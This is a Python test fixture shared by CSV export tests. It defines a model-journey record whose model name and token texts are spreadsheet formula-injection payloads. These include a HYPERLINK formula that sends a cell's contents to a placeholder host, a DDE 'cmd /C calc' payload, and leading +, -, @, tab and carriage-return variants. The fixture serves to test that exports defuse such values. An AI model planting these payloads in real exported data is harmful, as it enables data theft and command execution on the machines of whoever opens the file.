"""A journey record whose model name and token texts a spreadsheet would run as formulas (CSV injection),
shared by the Python and the page-script CSV tests."""

from __future__ import annotations

#: Issue 21's repro: a model name and tokens that a spreadsheet would run as formulas.
HOSTILE_JOURNEY = {
    "model": {
        "name": '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
        "num_layers": 1,
        "hidden_size": 2,
        "vocab_size": 8,
        "precision": {"device": "cpu", "dtype": "float32", "torch": "2.13.0+cpu", "matmul": "highest"},
    },
    "method": "exact",
    "tokens": [
        {"id": 1, "text": "=cmd|' /C calc'!A0"},
        {"id": 2, "text": "+1"},
        {"id": 3, "text": "-2+3"},
        {"id": 4, "text": "@SUM(A1)"},
        {"id": 5, "text": "\t=1"},
        {"id": 6, "text": "\r=1"},
        {"id": 7, "text": "plain"},
    ],
    "variants": {
        "raw": {
            "rank": [[0], [1], [2], [3], [4], [5], [6]],
            "similarity": [[-0.5], [0.25], [1.0], [-1e-05], [0.0], [-0.0], [0.5]],
            "neighbours": [[[{"id": 1, "text": "-", "similarity": -0.125}]]] * 7,
        }
    },
}
